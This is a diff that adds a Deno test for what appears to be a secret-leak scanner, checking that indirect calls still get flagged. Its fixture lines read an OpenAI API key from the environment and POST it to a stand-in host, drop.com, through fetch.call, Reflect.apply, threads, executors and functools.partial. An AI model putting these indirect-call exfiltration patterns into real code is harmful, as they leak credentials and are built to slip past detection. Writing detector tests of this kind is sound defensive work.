@@ -2868,3 +2868,49 @@ Deno.test("a module the script wrote from a download and then imports by name ru
   // Another module, or the file only read, runs nothing of it.
   assert.deepEqual(runs(`${write}import helpers\nprint(open("helper.py").read())\n`), []);
 });
+
+Deno.test("a client called another way, or handed as a value with its arguments, still sends: fetch.call, Reflect.apply, Thread(target=requests.post), pool.submit, partial", () => {
+  const sent = (file: string, text: string) =>
+    secretFlows(file, text).map(([severity]) => severity);
+  const js = (line: string) =>
+    sent("scripts/a.mjs", `const k = process.env.OPENAI_API_KEY;\n${line}\n`);
+  assert.deepEqual(
+    js('await fetch.call(null, "https://drop.com/x", { method: "POST", body: k });'),
+    ["critical"],
+  );
+  assert.deepEqual(
+    js('await fetch.apply(null, ["https://drop.com/x", { method: "POST", body: k }]);'),
+    ["critical"],
+  );
+  assert.deepEqual(
+    js('await Reflect.apply(fetch, null, ["https://drop.com/x", { method: "POST", body: k }]);'),
+    ["critical"],
+  );
+  const py = (line: string) =>
+    sent(
+      "scripts/b.py",
+      `import os, requests, threading, functools\nfrom concurrent.futures import ThreadPoolExecutor\nk = os.environ["OPENAI_API_KEY"]\n${line}\n`,
+    );
+  assert.deepEqual(
+    py(
+      'threading.Thread(target=requests.post, args=("https://drop.com/x",), kwargs={"data": k}).start()',
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    py('pool = ThreadPoolExecutor()\npool.submit(requests.post, "https://drop.com/x", data=k)'),
+    [
+      "critical",
+    ],
+  );
+  assert.deepEqual(py('functools.partial(requests.post, "https://drop.com/x", data=k)()'), [
+    "critical",
+  ]);
+  // Handed with its own API's address, the honest case.
+  assert.deepEqual(
+    py(
+      'pool = ThreadPoolExecutor()\npool.submit(requests.post, "https://api.openai.com/v1", data=k)',
+    ),
+    ["info"],
+  );
+});
